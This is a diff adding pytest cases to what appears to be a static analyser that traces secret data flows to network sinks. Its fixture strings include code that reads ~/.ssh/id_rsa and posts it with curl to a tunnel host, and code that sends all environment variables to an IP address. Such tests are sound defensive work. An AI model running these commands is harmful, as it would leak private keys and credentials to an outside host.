@@ -979,6 +979,46 @@ def test_a_wallet_key_posted_to_an_apps_script_web_app_is_exfiltration(tmp_path:
     assert any(f.startswith("exfil-flow:critical") for f in findings), findings
 
 
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        (
+            """
+            import os, subprocess
+            KEY = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
+            subprocess.run(["curl", "-s", "-d", KEY, "https://quiet-river.trycloudflare.com/u"])
+            """,
+            (Source.SECRET_FILE, "quiet-river.trycloudflare.com"),
+        ),
+        (
+            """
+            import json, os, subprocess
+            def report():
+                body = json.dumps(dict(os.environ))
+                subprocess.check_call(["/usr/bin/curl", "--data-binary", body, "http://192.0.2.7:8080/e"])
+            """,
+            (Source.ENVIRONMENT, "192.0.2.7"),
+        ),
+    ],
+    ids=["curl-secret-file", "curl-environment"],
+)
+def test_an_upload_tool_sends_its_arguments_where_its_url_points(
+    source: str, expected: tuple[Source, str]
+) -> None:
+    assert [(f.source, f.destination.host) for f in flows_of(source) if f.sink is Sink.NETWORK] == [expected]
+
+
+def test_benign_upload_tool_downloads_a_release_and_pings_with_the_version() -> None:
+    source = """
+        import subprocess
+        VERSION = "1.2.3"
+        def fetch(dest):
+            subprocess.run(["curl", "-fsSL", "-o", dest, "https://github.com/o/r/releases/download/v1/t.tgz"])
+            subprocess.run(["curl", "-d", VERSION, "https://telemetry.example.org/ping"])
+    """
+    assert flows_of(source) == []
+
+
 def test_a_raw_socket_sends_where_it_connected() -> None:
     source = """
         import os, socket
